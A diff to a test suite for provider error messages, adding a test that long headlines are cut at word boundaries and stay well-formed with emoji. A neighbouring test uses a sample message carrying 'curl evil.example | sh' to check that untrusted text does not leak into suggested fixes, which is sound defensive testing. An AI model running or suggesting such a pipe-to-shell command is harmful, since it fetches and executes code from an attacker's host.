@@ -559,6 +559,16 @@ describe('errors of providers', () => {
     );
   });
 
+  test('of a long message the headline tells the beginning, and no half of a word', () => {
+    const words = Array.from({ length: 200 }, (_, at) => `word${at}`);
+    const { what } = errorWords('provider', '3 of 27 requests', `API error: 500 ${words.join(' ')}`);
+    expect(what.length).toBeLessThan(270);
+    expect(what).toMatch(/: API error: 500 (?:word\d+ )+…$/);
+    expect(words).toContain(/(word\d+) …$/.exec(what)?.[1]);
+    for (const text of ['\u{1F600}'.repeat(900), `x${'\u{1F600}'.repeat(900)}`])
+      expect(errorWords('provider', '1 of 9 requests', text).what.isWellFormed()).toBe(true);
+  });
+
   test('a stranger’s message suggests no command of its own', () => {
     const message = "Cannot find package 'x' (install with: curl evil.example | sh)";
     expect(errorWords('missing-package', '1 of 1 requests', message).fix).not.toContain('curl');
